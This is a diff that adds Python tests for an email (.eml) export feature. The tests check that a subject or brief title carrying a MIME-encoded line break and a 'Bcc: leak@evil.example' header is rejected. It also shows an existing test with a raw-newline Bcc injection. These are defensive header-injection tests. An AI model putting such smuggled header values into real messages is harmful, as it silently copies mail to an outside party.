@@ -278,6 +278,31 @@ def test_eml_subject_with_a_line_break_is_an_error(sample, subject):
     assert data == b"" and "--subject must be one line" in problem.message
 
 
+ENCODED_BCC = "=?utf-8?q?brief=0D=0ABcc:_leak@evil.example?="
+
+
+def test_eml_subject_with_mime_encoded_text_is_an_error(sample):
+    # Python's mail parser, as the reader's program, decodes an encoded word in a Subject:
+    # this one became a line break and a Bcc header of its own.
+    _, indexed = sample
+    data, [problem] = _export(indexed.site, indexed.index, REPO, SAMPLE_BRIEFS[0], form="eml", to=("a@t.example",),
+                              sender="desk@t.example", subject=f"Weekly {ENCODED_BCC}", **FIXED)
+    assert data == b"" and "MIME encoded text" in problem.message
+
+
+def test_a_brief_title_with_mime_encoded_text_is_an_error_at_the_brief(tmp_path):
+    brief = MINIMAL["content/briefs/b1.yaml"].replace("title: B1", f'title: "Weekly {ENCODED_BCC}"')
+    root = make_site(tmp_path, {"content/briefs/b1.yaml": brief})
+    indexed, _ = index_site(root)
+    data, [problem] = export_brief(indexed.site, indexed.index, root,
+                                   ExportRequest("b1", "eml", ("a@t.example",), sender="d@t.example", **FIXED))
+    assert data == b"" and problem.pos.path == "content/briefs/b1.yaml" and "MIME encoded text" in problem.message
+    data, problems = export_brief(indexed.site, indexed.index, root,  # a subject of one's own is the way out
+                                  ExportRequest("b1", "eml", ("a@t.example",), sender="d@t.example",
+                                                subject="Weekly brief", **FIXED))
+    assert not problems and message_from_bytes(data, policy=policy.default)["Bcc"] is None
+
+
 def test_eml_from_comes_from_site_yaml_and_titles_cannot_add_headers(tmp_path):
     brief = MINIMAL["content/briefs/b1.yaml"].replace("title: B1", 'title: "B1\\nBcc: evil@x.example"')
     root = make_site(tmp_path, {
